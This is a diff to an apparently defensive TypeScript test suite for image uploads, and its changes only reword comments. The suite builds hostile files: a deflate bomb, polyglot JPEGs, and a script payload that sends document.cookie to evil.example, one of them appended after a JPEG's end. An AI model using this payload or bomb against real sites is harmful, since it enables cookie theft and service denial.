@@ -1,7 +1,7 @@
 /**
- * A corpus of files that somebody might send instead of a photo. Each is either refused in words or
- * made harmless; none ends the process, takes long or fills the memory. The files are made here, so
- * that none of them lies in the repository.
+ * A corpus of hostile files uploaded instead of a photo. Each is refused with a reason or made
+ * harmless; none ends the process, takes long or fills the memory. The files are made here, so that
+ * none of them is in the repository.
  */
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
@@ -23,7 +23,7 @@ const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
 const svg = (inside: string) =>
   Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">${inside}</svg>`)
 
-/** A PNG of nothing but what its header says, and of one chunk more. */
+/** A PNG of a header and at most one extra chunk. */
 function pngOf(
   size: [number, number],
   options: { colour?: number; extra?: Buffer; rows?: Buffer },
@@ -50,11 +50,11 @@ function chunk(type: string, data: Buffer): Buffer {
   return Buffer.concat([length, body, sum])
 }
 
-/** Puts bytes after a place of a file that is otherwise left alone. */
+/** Inserts bytes at a position of a file. */
 const insert = (file: Buffer, at: number, more: Buffer) =>
   Buffer.concat([file.subarray(0, at), more, file.subarray(at)])
 
-/** A JPEG segment right after the first marker. */
+/** Inserts a JPEG segment after the first marker. */
 function withSegment(marker: number, text: string): Buffer {
   const data = Buffer.from(text, 'latin1')
   const head = Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255])
@@ -63,7 +63,7 @@ function withSegment(marker: number, text: string): Buffer {
 
 /** Scanlines of a real grey picture of the usual size. */
 const rows = Buffer.alloc((width + 1) * height, 0)
-/** Fifty million zeros, packed into fifty kilobytes. */
+/** 50 million zeros, compressed to 50 kB. */
 const bomb = deflateSync(Buffer.alloc(50_000_000))
 
 const corpus: Made[] = [
@@ -133,7 +133,7 @@ const corpus: Made[] = [
   {
     name: 'a WebP that moves',
     bytes: await sharp(
-      // Each frame another grey, or the frames would be one.
+      // Each frame has another grey, or the encoder would merge them.
       Buffer.concat(Array.from({ length: 20 }, (_, frame) => Buffer.alloc(rows.length, frame * 9))),
       { raw: { width: width + 1, height: height * 20, pageHeight: height, channels: 1 } },
     )
@@ -141,7 +141,7 @@ const corpus: Made[] = [
       .toBuffer(),
     ends: 'moving',
   },
-  // Pictures that show something, and carry something.
+  // Valid pictures that carry something else.
   {
     name: 'a JPEG that is a page after its end',
     bytes: Buffer.concat([jpeg, Buffer.from(script)]),
